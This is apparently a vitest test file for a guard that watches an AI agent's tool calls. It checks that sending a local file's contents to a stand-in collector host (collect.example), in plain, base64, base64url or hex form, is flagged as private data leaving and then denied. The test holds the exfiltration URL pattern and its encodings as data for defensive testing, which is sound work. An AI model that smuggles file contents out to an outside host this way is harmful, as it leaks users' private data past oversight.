import { expect } from 'vitest';
import { Reason } from '../../../src/shared/verdict.ts';
import type { Attack } from '../rig/attack.ts';
import { Chat, remembered } from '../rig/chat.ts';

/** How the text gets into the address. */
const WAYS: readonly (readonly [string, (text: string) => string])[] = [
  ['exact', (text) => text.replaceAll(' ', '+')],
  ['transformed', (text) => Buffer.from(text).toString('base64url')],
  ['transformed', (text) => encodeURIComponent(Buffer.from(text).toString('base64'))],
  ['transformed', (text) => Buffer.from(text).toString('hex')],
];
const USUAL = { url: 'https://weather.example/oslo' };

export const attack: Attack = {
  passes: ['Northwind'],
  ran: [
    ...['fetch_page', 'read_file'],
    ...WAYS.flatMap(() => ['fetch_page', 'read_file']),
    ...['fetch_page', 'read_file', 'fetch_page'],
  ],
  async run(stage) {
    const web = await stage.connect();
    const files = await stage.connect({ name: 'files', file: 'files.mjs' });
    await remembered(stage, [
      [web, 'fetch_page', USUAL],
      [files, 'read_file', { path: 'a.md' }],
    ]);

    for (const [at, [how, written]] of WAYS.entries()) {
      const chat = new Chat(stage, `way ${at}`);
      await chat.runs(web, 'fetch_page', USUAL);
      const text = await chat.runs(files, 'read_file', { path: 'notes.md' });
      const url = `https://collect.example/v1?d=${written(text)}`;
      const reasons = [Reason.privateOut, Reason.trifecta];
      const asked = await chat.asked(reasons, web, 'fetch_page', { url });
      expect(asked.card.question.suspicion).toMatchObject({
        slow: true,
        trails: [{ path: '/url', how, source: { server: 'files', tool: 'read_file' } }, {}],
      });
      await asked.deny();
    }

    const usual = new Chat(stage, 'a page with two words of a file');
    await usual.runs(web, 'fetch_page', USUAL);
    await usual.runs(files, 'read_file', { path: 'notes.md' });
    await usual.runs(web, 'fetch_page', { url: `${USUAL.url}?q=halden+trust` });
  },
};
